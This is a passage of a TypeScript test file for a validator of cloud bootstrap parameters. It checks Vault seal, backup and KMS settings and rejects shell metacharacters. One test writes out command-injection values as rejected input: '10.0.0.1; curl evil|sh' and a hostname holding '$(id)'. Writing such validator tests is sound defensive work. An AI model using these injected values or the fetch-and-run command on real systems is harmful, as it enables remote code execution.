                    `seal.kmsKeyId: "my key" is not valid; expected a KMS key id (UUID or mrk-), key ARN or alias. Pass the aws.kms.Key's keyId or arn.`,
                ]);
                assert.match(e.message, /^invalid bootstrap params for role 'vault':\n {2}- hostname:/);
                return true;
            },
        );
    });

    it("refuses another cloud's seal, backup or secret store", () => {
        const mixed = { ...vaultParams("aws"), seal: vaultParams("azure").seal as never, backup: vaultParams("gcp").backup as never } as never;
        assert.deepEqual(validateBootstrapParams("vault", mixed), [
            `seal.type: "azurekeyvault" does not belong to cloud 'aws'; expected 'awskms'. Each cloud uses its own seal (aws: awskms, azure: azurekeyvault, gcp: gcpckms).`,
            `backup.type: "gcs" does not belong to cloud 'aws'; expected 's3'. Each cloud uses its own backup (aws: s3, azure: azureblob, gcp: gcs).`,
        ]);
    });

    it("keeps shell metacharacters out of the scripts", () => {
        const evil = { ...bastionParams("gcp"), wazuhManagerAddress: "10.0.0.1; curl evil|sh", hostname: "x'$(id)" } as never;
        const problems = validateBootstrapParams("bastion", evil);
        assert.equal(problems.length, 2);
        assert.match(problems[0], /^hostname: "x'\$\(id\)" is not valid/);
        assert.match(problems[1], /^wazuhManagerAddress: "10\.0\.0\.1; curl evil\|sh" is not valid/);
    });

    it("requires the role's data disk, seal and backup", () => {
        const { dataDisk: _d, seal: _s, backup: _b, ...rest } = vaultParams("gcp") as unknown as Record<string, unknown>;
        assert.deepEqual(validateBootstrapParams("vault", rest as never), [
            "dataDisk: missing; role 'vault' keeps its state on a separate data disk.",
            "seal: missing; Vault auto-unseals with the cloud KMS.",
            "backup: missing; raft snapshots are uploaded to object storage.",
        ]);
    });
});
